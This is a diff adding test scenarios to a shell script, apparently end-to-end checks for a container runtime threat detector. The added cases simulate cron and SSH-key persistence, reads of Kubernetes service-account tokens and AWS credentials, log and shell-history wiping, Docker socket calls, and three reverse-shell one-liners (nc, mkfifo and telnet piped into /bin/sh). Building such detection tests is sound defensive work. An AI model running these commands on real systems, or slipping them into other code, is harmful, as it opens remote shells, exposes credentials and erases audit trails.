@@ -73,6 +73,41 @@ case "$name" in
     (echo 'id'; sleep "${2:-4}"; echo 'exit') | nc -l -p "${1:-4444}" >/dev/null ;;
   # ---- runtime threats: drift and the interactive baseline ----
   # ---- runtime threats: persistence, credentials, evasion ----
+  cron-persist)      # needs -v /etc/cron.d:/host/cron.d ; crontab into a private spool dir, then a canary cron file in
+                     # the host's /etc/cron.d (a name with a dot: cron ignores it; a comment: nothing to run), removed
+    mkdir -p /tmp/cron && echo '# keelwatch e2e canary' > /tmp/cron.txt && crontab -c /tmp/cron /tmp/cron.txt
+    $h write "/host/cron.d/${1:?canary name}" "# keelwatch e2e canary: not a job"
+    rm -f "/host/cron.d/$1" ;;
+  ssh-key)           # needs -v HOSTDIR:/home/victim (a scratch dir below the host's /home)
+    mkdir -p /home/victim/.ssh && $h write /home/victim/.ssh/authorized_keys "ssh-ed25519 AAAAkeelwatch-e2e canary" ;;
+  sa-token)          # needs the kubelet projected-volume dir mounted at /var/run/secrets/kubernetes.io/serviceaccount:ro
+    d=/var/run/secrets/kubernetes.io/serviceaccount
+    cat $d/token | base64 | head -c 16; echo; cat $d/namespace ;;
+  sa-token-app)      # benign: the application reads its own token with its own binary
+    $h read /var/run/secrets/kubernetes.io/serviceaccount/token ;;
+  cloud-creds)       # needs a credentials directory mounted at /root/.aws:ro
+    cat /root/.aws/credentials | grep -c aws_access_key_id ;;
+  log-clear)         # needs -v HOSTDIR:/var/log/app (a scratch dir below the host's /var/log holding app.log)
+    : > /var/log/app/app.log; $h truncate /var/log/app/app.log; rm -f /var/log/app/app.log
+    echo 'ls' > /root/.ash_history; : > /root/.ash_history; rm -f /root/.ash_history ;;
+  log-append)        # benign: an application appending to its log through the same mount
+    for i in 1 2 3; do echo "line $i" >> /var/log/app/app.log; done; cat /var/log/app/app.log | wc -l ;;
+  ro-write)          # needs -v /etc/cron.d:/host/cron.d:ro -v HOSTDIR:/var/log/app:ro ; both writes are refused (EROFS)
+    $h write /host/cron.d/keelwatch-e2e.canary "# never written"
+    $h truncate /var/log/app/app.log
+    rm -f /var/log/app/app.log 2>/dev/null; true ;;
+  ro-read)           # benign: reading through the same read-only mounts
+    ls /host/cron.d | wc -l; cat /var/log/app/app.log | wc -l ;;
+  docker-api)        # needs -v /var/run/docker.sock:/var/run/docker.sock ; list, then a create the daemon refuses (404)
+    ln -sf $h /tmp/curl
+    /tmp/curl dockerapi /var/run/docker.sock GET /containers/json
+    /tmp/curl dockerapi /var/run/docker.sock POST /containers/create ;;
+  revshell-pipe)     # target: a listener; the shell reads commands from nc through a pipe (no -e, no dup2)
+    nc "${1:?listener ip}" "${2:-4444}" | /bin/sh ;;
+  revshell-fifo)     # the mkfifo reverse shell: fifo -> sh -i -> nc -> fifo
+    rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc "${1:?listener ip}" "${2:-4444}" > /tmp/f; rm -f /tmp/f ;;
+  revshell-telnet)   # telnet-style: commands from telnet piped into a shell
+    telnet "${1:?listener ip}" "${2:-4444}" | /bin/sh ;;
   # ---- stale containers ----
   long-lived)
     sleep "${1:-600}" ;;
